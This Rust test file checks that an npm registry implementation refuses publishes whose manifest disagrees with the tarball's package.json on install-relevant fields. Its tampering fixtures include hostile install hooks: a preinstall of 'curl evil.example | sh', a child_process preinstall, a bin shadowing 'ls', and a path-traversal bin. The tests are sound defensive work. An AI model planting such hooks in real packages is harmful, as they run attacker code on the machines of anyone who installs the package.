//! Manifest confusion: a publish whose manifest disagrees with its tarball's package.json on
//! an install-relevant field is refused; what the real npm client sends is accepted.

#[path = "support/fixtures.rs"]
mod support;

use serde_json::{Value, json};
use support::{bytes, package_json, package_tgz, publish_body};
use wharf_npm::manifest::{INSTALL_FIELDS, check_manifest_matches};
use wharf_npm::{NpmError, NpmName, PublishLimits, parse_publish};

/// A package.json using every normalisation npm applies when it builds the manifest.
fn captured_package_json() -> Value {
    json!({"name": "@sc/capture-me", "version": "1.0.0", "main": "index.js",
        "bin": "./cli.js",
        "dependencies": {"a": "^1", "b": "^2"},
        "optionalDependencies": {"b": "^2"},
        "bundledDependencies": ["a"],
        "scripts": {"test": "node_modules/.bin/mocha", "build": "tsc"},
        "directories": {"lib": "lib"},
        "engines": {"node": ">=18"},
        "os": ["linux"], "cpu": ["x64"]})
}

/// The version object npm 11.19 sent for [`captured_package_json`] packed with a `binding.gyp`
/// and a `server.js` (recorded from a real `npm publish`; `readme` and `dist` left out).
fn captured_manifest() -> Value {
    json!({"name": "@sc/capture-me", "version": "1.0.0", "main": "index.js",
        "bin": {"capture-me": "cli.js"},
        "dependencies": {"a": "^1", "b": "^2"},
        "optionalDependencies": {"b": "^2"},
        "scripts": {"test": "mocha", "build": "tsc", "install": "node-gyp rebuild",
                    "start": "node server.js"},
        "directories": {"lib": "lib"},
        "engines": {"node": ">=18"},
        "os": ["linux"], "cpu": ["x64"],
        "gypfile": true,
        "_id": "@sc/capture-me@1.0.0",
        "bundleDependencies": ["a"],
        "_nodeVersion": "20.20.2", "_npmVersion": "11.19.1"})
}

fn mismatch_field(r: Result<(), NpmError>) -> String {
    match r {
        Err(NpmError::ManifestMismatch { field, .. }) => field,
        other => panic!("expected a manifest mismatch, got {other:?}"),
    }
}

#[test]
fn accepts_what_npm_11_sends() {
    check_manifest_matches(&captured_manifest(), &captured_package_json(), "capture-me").unwrap();
    // A second recording: `directories.bin` listed as bins, `bundleDependencies: true`
    // expanded, a non-string script dropped, peer dependencies kept.
    let pj = json!({"name": "capture-two", "version": "1.0.0",
        "directories": {"bin": "./bin"},
        "dependencies": {"a": "^1"},
        "bundleDependencies": true,
        "scripts": {"preinstall": "echo hi", "x": 5},
        "peerDependencies": {"p": "1"}, "peerDependenciesMeta": {"p": {"optional": true}}});
    let sent = json!({"name": "capture-two", "version": "1.0.0",
        "directories": {"bin": "./bin"},
        "dependencies": {"a": "^1"},
        "bundleDependencies": ["a"],
        "scripts": {"preinstall": "echo hi"},
        "peerDependencies": {"p": "1"}, "peerDependenciesMeta": {"p": {"optional": true}},
        "bin": {"tool": "bin/tool", "other.js": "bin/other.js"},
        "_id": "capture-two@1.0.0", "_nodeVersion": "20.20.2", "_npmVersion": "11.19.1"});
    check_manifest_matches(&sent, &pj, "capture-two").unwrap();
}

#[test]
fn absent_equals_empty_and_other_fields_are_not_compared() {
    let pj = json!({"name": "p", "version": "1.0.0"});
    let manifest = json!({"name": "p", "version": "1.0.0", "dependencies": {}, "os": [],
        "cpu": [], "engines": {}, "scripts": {}, "bin": {}, "bundleDependencies": [],
        "gypfile": true, "description": "differs", "main": "other.js", "readme": "# p"});
    check_manifest_matches(&manifest, &pj, "p").unwrap();
    check_manifest_matches(&pj, &manifest, "p").unwrap();
}

#[test]
fn refuses_each_install_relevant_field_that_differs() {
    let pj = captured_package_json();
    let tampered: [(&str, &str, Value); 14] = [
        (
            "dependencies",
            "dependencies",
            json!({"a": "^1", "b": "^2", "evil": "*"}),
        ),
        ("optionalDependencies", "optionalDependencies", json!({})),
        (
            "peerDependencies",
            "peerDependencies",
            json!({"react": "*"}),
        ),
        (
            "peerDependenciesMeta",
            "peerDependenciesMeta",
            json!({"x": {"optional": true}}),
        ),
        ("engines", "engines", json!({"node": ">=0"})),
        ("os", "os", json!(["linux", "darwin"])),
        ("cpu", "cpu", json!([])),
        (
            "bundleDependencies",
            "bundleDependencies",
            json!(["a", "b"]),
        ),
        (
            "bundledDependencies",
            "bundleDependencies",
            json!(["a", "b"]),
        ),
        (
            "scripts",
            "scripts",
            json!({"test": "mocha", "build": "tsc",
            "preinstall": "curl evil.example | sh"}),
        ),
        ("gypfile", "gypfile", json!(false)),
        (
            "directories",
            "directories.bin",
            json!({"lib": "lib", "bin": "tools"}),
        ),
        (
            "bin",
            "bin",
            json!({"capture-me": "cli.js", "ls": "evil.js"}),
        ),
        ("bin", "bin", json!("evil.js")),
    ];
    for (key, field, value) in tampered {
        let mut manifest = captured_manifest();
        if key == "bundledDependencies" {
            manifest
                .as_object_mut()
                .unwrap()
                .remove("bundleDependencies");
        }
        if key == "gypfile" {
            // `gypfile: false` alone: without the `node-gyp rebuild` it would turn off.
            manifest["scripts"]
                .as_object_mut()
                .unwrap()
                .remove("install");
        }
        manifest[key] = value.clone();
        let got = mismatch_field(check_manifest_matches(&manifest, &pj, "capture-me"));
        assert_eq!(got, field, "{key} = {value}");
        assert!(INSTALL_FIELDS.contains(&got.as_str()), "{got}");
    }
}

#[test]
fn script_defaults_are_only_npm_s_own() {
    let pj = json!({"name": "p", "version": "1.0.0", "scripts": {"preinstall": "x"}});
    // With a preinstall script npm adds no `node-gyp rebuild`.
    let m = json!({"scripts": {"preinstall": "x", "install": "node-gyp rebuild"}});
    assert_eq!(
        mismatch_field(check_manifest_matches(&m, &pj, "p")),
        "scripts"
    );
    // Nor with `gypfile: false`.
    let pj = json!({"gypfile": false});
    let m = json!({"gypfile": false, "scripts": {"install": "node-gyp rebuild"}});
    assert_eq!(
        mismatch_field(check_manifest_matches(&m, &pj, "p")),
        "scripts"
    );
    // Any other install or start command is compared.
    let m = json!({"scripts": {"install": "node-gyp rebuild && sh x"}});
    assert_eq!(
        mismatch_field(check_manifest_matches(&m, &json!({}), "p")),
        "scripts"
    );
    let m = json!({"scripts": {"start": "node evil.js"}});
    assert_eq!(
        mismatch_field(check_manifest_matches(&m, &json!({}), "p")),
        "scripts"
    );
    // Only a leading `node_modules/.bin/` is dropped.
    let pj = json!({"scripts": {"t": "./node_modules/.bin/tap", "u": "x node_modules/.bin/y"}});
    let m = json!({"scripts": {"t": "tap", "u": "x node_modules/.bin/y"}});
    check_manifest_matches(&m, &pj, "p").unwrap();
    let m = json!({"scripts": {"t": "tap", "u": "x y"}});
    assert_eq!(
        mismatch_field(check_manifest_matches(&m, &pj, "p")),
        "scripts"
    );
}

#[test]
fn bins_listed_from_directories_bin_stay_inside_it() {
    let pj = json!({"directories": {"bin": "bin"}});
    let inside = json!({"directories": {"bin": "bin"}, "bin": {"a": "bin/a", "b": "./bin/sub/b"}});
    check_manifest_matches(&inside, &pj, "p").unwrap();
    for outside in [
        json!({"directories": {"bin": "bin"}, "bin": {"a": "evil.js"}}),
        json!({"directories": {"bin": "bin"}, "bin": {"a": "bin/../evil.js"}}),
        json!({"directories": {"bin": "bin"}, "bin": {"a": "binary/a"}}),
    ] {
        assert_eq!(
            mismatch_field(check_manifest_matches(&outside, &pj, "p")),
            "bin"
        );
    }
    // With a `bin` of its own, npm ignores `directories.bin`: the maps must agree.
    let pj = json!({"directories": {"bin": "bin"}, "bin": {"a": "bin/a"}});
    let m = json!({"directories": {"bin": "bin"}, "bin": {"a": "bin/a", "b": "bin/b"}});
    assert_eq!(mismatch_field(check_manifest_matches(&m, &pj, "p")), "bin");
}

#[test]
fn a_publish_with_a_tampered_manifest_is_refused_with_npm_s_error() {
    let pj = package_json("left-pad", "1.3.0", &json!({}));
    let tarball = package_tgz(&pj);
    let mut manifest = pj.clone();
    manifest["scripts"] = json!({"preinstall": "node -e 'require(\"child_process\")'"});
    let body = publish_body(&manifest, &tarball);
    let e = parse_publish(
        &NpmName::parse("left-pad").unwrap(),
        &bytes(&body),
        &PublishLimits::default(),
    )
    .unwrap_err();
    assert!(matches!(&e, NpmError::ManifestMismatch { field, .. } if field == "scripts"));
    assert_eq!(e.status(), 400);
    let body: Value = serde_json::from_str(&e.body()).unwrap();
    let msg = body["error"].as_str().unwrap();
    assert!(msg.contains("\"scripts\""), "{msg}");
    assert!(msg.contains("preinstall"), "{msg}");
    // The same body with the tarball's own manifest is accepted.
    let body = publish_body(&pj, &tarball);
    parse_publish(
        &NpmName::parse("left-pad").unwrap(),
        &bytes(&body),
        &PublishLimits::default(),
    )
    .unwrap();
}

#[test]
fn long_values_are_shortened_in_the_error() {
    let deps: serde_json::Map<String, Value> =
        (0..100).map(|i| (format!("dep-{i}"), json!("*"))).collect();
    let m = json!({ "dependencies": deps });
    let e = check_manifest_matches(&m, &json!({}), "p").unwrap_err();
    assert!(e.to_string().len() < 600, "{e}");
    assert!(e.to_string().contains('…'), "{e}");
}
